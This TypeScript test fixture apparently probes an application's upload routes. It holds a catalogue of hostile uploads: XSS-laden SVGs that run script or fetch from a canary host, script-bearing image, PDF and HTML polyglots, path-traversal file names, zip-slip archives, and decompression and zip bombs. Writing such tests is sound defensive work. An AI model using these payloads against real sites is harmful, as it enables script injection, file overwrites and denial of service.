import { strToU8, zipSync } from 'fflate'
import { canary, hostileScripts } from './hostileScripts.ts'
import { createJpeg, createPng, createXlsx } from '../entities/samples.ts'

/** A file that is valid in two formats, or a name with a path. */
export interface Polyglot {
  readonly name: string
  readonly content: Buffer
  readonly purpose: 'file' | 'picture' | 'gallery' | 'firmware'
}

const run = `${canary.call}(7)`
const html = Buffer.from(`<!doctype html><script>${run}</script><img src=x onerror=${run}>`)
const namespaces = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'

/** Thirty SVG files that execute or fetch something if opened as a page. */
export const hostileSvgs: readonly string[] = [
  `<script>${run}</script>`,
  `<script href="//${canary.host}/1"/>`,
  `<script xlink:href="data:text/javascript,${run}"/>`,
  `<script type="module">${run}</script>`,
  `<g onload="${run}"/>`,
  `<rect width="99" height="99" onclick="${run}" onmouseover="${run}"/>`,
  `<image href="x" onerror="${run}"/>`,
  `<image href="//${canary.host}/2"/>`,
  `<image xlink:href="javascript:${run}"/>`,
  `<use href="//${canary.host}/3#a"/>`,
  `<use href="data:image/svg+xml,&lt;svg id='a' xmlns='http://www.w3.org/2000/svg' onload='${run}'/&gt;#a"/>`,
  `<a href="javascript:${run}"><text y="20">x</text></a>`,
  `<animate onbegin="${run}" attributeName="x" dur="1s"/>`,
  `<set onbegin="${run}" attributeName="x" to="1"/>`,
  `<a><animate attributeName="href" values="javascript:${run}"/><text y="20">x</text></a>`,
  `<animateTransform onend="${run}" attributeName="transform" dur="1ms"/>`,
  `<foreignObject width="99" height="99"><body xmlns="http://www.w3.org/1999/xhtml" onload="${run}"><script>${run}</script></body></foreignObject>`,
  `<foreignObject width="99" height="99"><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;top.${run}&lt;/script&gt;"/></foreignObject>`,
  `<foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="${run}"/></foreignObject>`,
  `<style>@import "//${canary.host}/4";</style>`,
  `<style>*{fill:url(//${canary.host}/5#a)}</style>`,
  `<rect style="background:url(//${canary.host}/6)"/>`,
  `<filter id="f"><feImage href="//${canary.host}/7"/></filter><rect filter="url(#f)" width="9" height="9"/>`,
  `<rect fill="url(//${canary.host}/8#a)" width="9" height="9"/>`,
  `<style>@font-face{font-family:a;src:url(//${canary.host}/9)}text{font-family:a}</style><text y="20">x</text>`,
  `<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${run}</handler>`,
  `<title><![CDATA[</title><script>${run}</script>]]></title>`,
  `<desc>&lt;/desc&gt;&lt;script&gt;${run}&lt;/script&gt;</desc>`,
  `<metadata><script xmlns="http://www.w3.org/1999/xhtml">${run}</script></metadata>`,
  `<text y="20" onfocus="${run}" tabindex="0" autofocus="">x</text>`,
].map((inner) => `<svg ${namespaces} width="100" height="100" onload="${run}">${inner}</svg>`)

/** All files sent to the upload routes. */
export const polyglots: readonly Polyglot[] = [
  ...(['picture', 'gallery'] as const).flatMap((purpose): Polyglot[] => [
    { name: 'gif.png', content: Buffer.from(`GIF89a/*....*/=1;${run}//`), purpose },
    { name: 'gif.gif', content: Buffer.from(`GIF89a/*....*/=1;${run}//`), purpose },
    { name: 'gif.js.jpg', content: Buffer.from(`GIF89a=1;${run}`), purpose },
    { name: 'page.png', content: Buffer.concat([createPng(8, 8), html]), purpose },
    { name: 'header.png', content: Buffer.concat([createPng(8, 8).subarray(0, 33), html]), purpose },
    { name: 'comment.png', content: createPng(8, 8, { text: html.toString() }), purpose },
    { name: 'trailed.jpg', content: Buffer.concat([createJpeg(8, 8), html]), purpose },
    { name: 'noted.jpg', content: createJpeg(8, 8), purpose },
    { name: 'page.html.png', content: html, purpose },
    { name: 'page.html', content: html, purpose },
    { name: 'bomb.png', content: createPng(2, 2, { declared: [50_000, 50_000] }), purpose },
    { name: '../../../escape.png', content: createPng(4, 4), purpose },
    { name: '..\\..\\escape.png', content: createPng(4, 4), purpose },
    { name: '/etc/passwd.png', content: createPng(4, 4), purpose },
    { name: '..%2f..%2fescape.png', content: createPng(4, 4), purpose },
    ...hostileScripts.slice(0, 12).map((make, n): Polyglot => ({
      name: `${make(n).replaceAll(/[\n\r]/g, ' ')}.png`,
      content: createPng(4, 4),
      purpose,
    })),
    ...hostileSvgs.flatMap((svg, n): Polyglot[] =>
      purpose === 'gallery' && n % 6 > 0
        ? []
        : [{ name: `a${n}.${n % 6 === 0 ? 'png' : 'svg'}`, content: Buffer.from(svg), purpose }],
    ),
  ]),
  { name: 'page.txt', content: html, purpose: 'file' },
  { name: 'script.txt', content: Buffer.from(run), purpose: 'file' },
  { name: 'page.pdf', content: html, purpose: 'file' },
  {
    name: 'script.pdf',
    content: Buffer.concat([
      Buffer.from(`%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(${run})>>>>endobj\n`),
      html,
      Buffer.from('\n%%EOF\n'),
    ]),
    purpose: 'file',
  },
  { name: 'page.xlsx', content: createXlsx({ 'xl/page.html': strToU8(html.toString()) }), purpose: 'file' },
  { name: 'slip.xlsx', content: createXlsx({ '../../slip.html': strToU8('x') }), purpose: 'file' },
  ...['../../slip.sh', 'a/../../slip', '/etc/slip', '..\\slip'].map((entry): Polyglot => ({
    name: 'slip.zip',
    content: Buffer.from(zipSync({ [entry]: strToU8('x') })),
    purpose: 'firmware',
  })),
  {
    name: 'bomb.zip',
    content: Buffer.from(zipSync({ 'a.bin': [new Uint8Array(120 * 1024 * 1024), { level: 9 }] })),
    purpose: 'firmware',
  },
]
